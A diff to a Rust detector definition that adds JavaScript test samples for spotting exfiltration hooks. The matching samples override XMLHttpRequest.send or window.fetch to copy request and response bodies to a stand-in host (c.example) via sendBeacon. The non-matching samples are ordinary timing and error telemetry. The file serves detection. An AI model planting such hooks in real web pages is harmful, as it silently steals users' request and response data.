@@ -22,8 +22,11 @@ pub(super) const SIGNAL: Signal = Signal {
             "(function XMLHttpRequest(){})();{class A{}function XMLHttpRequest(){}}if(0)var XMLHttpRequest=function(){};var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){navigator.sendBeacon('https://c.example/x',d);return o.apply(this,arguments)}",
             "var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){navigator.sendBeacon('https://c.example/x',d);return o.apply(this,arguments)}",
             "const f=window.fetch;window.fetch=function(...a){f('https://c.example/x');log(a);return f.apply(this,a)};function log(a){navigator.sendBeacon('https://c.example/l',JSON.stringify(a))}",
+            "const f=window.fetch;window.fetch=(...a)=>f(...a).then(r=>{r.clone().json().then(j=>navigator.sendBeacon('https://c.example/p',JSON.stringify(j)));return r})",
+            "var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){this.addEventListener('load',function(){navigator.sendBeacon('https://c.example/p',this.responseText)});return s.apply(this,arguments)}",
         ],
         without: &[
+            "const f=window.fetch;window.fetch=(...a)=>f(...a).then(r=>{r.clone().text().then(t=>navigator.sendBeacon('https://m.example/s',String(t.length)));return r})",
             "var Q=function(){function e(){this.queue=[]}return e.prototype.send=function(t,n){return fetch('https://m.example/batch',{method:'POST',body:JSON.stringify(t)})},e}()",
             "var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){this.t=Date.now();return o.apply(this,arguments)};navigator.sendBeacon('https://m.example/t',timing)",
             r#"const f=window.fetch,c=[];window.fetch=async function(i,o){const t=Date.now(),b={url:typeof i==='string'?i:i.url};try{const r=await f.call(this,i,o);b.status=r.status;return r}finally{b.ms=Date.now()-t;c.push(b)}};function report(e){f('https://in.trail.example/e',{method:'POST',body:JSON.stringify({m:e.message,crumbs:c})})}"#,
